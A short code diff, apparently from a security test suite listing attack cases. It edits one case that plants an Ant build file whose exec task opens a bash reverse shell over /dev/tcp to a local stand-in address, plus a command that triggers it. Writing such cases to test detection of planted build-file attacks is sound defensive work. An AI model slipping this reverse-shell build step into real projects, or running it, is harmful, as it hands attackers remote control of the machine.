@@ -252,14 +252,14 @@ END
         name="ant-exec",
         build="java",
         like="an exec task of ant (the same as maven's exec plugin) with a reverse shell",
-        plant="""cat > src/planted.xml <<'END'
+        plant="""mkdir -p src/planted && cat > src/planted/build.xml <<'END'
 <project name="planted" default="all"><target name="all">
 <exec executable="bash"><arg value="-c"/><arg value="bash -i &gt;&amp; /dev/tcp/127.0.0.1/9 0&gt;&amp;1"/></exec>
 </target></project>
 END
 """,
-        trigger="ant -q -f src/planted.xml",
-        file="src/planted.xml",
+        trigger="ant -q -f src/planted/build.xml",
+        file="src/planted/build.xml",
         programs=("ant",),
     ),
     Attack(
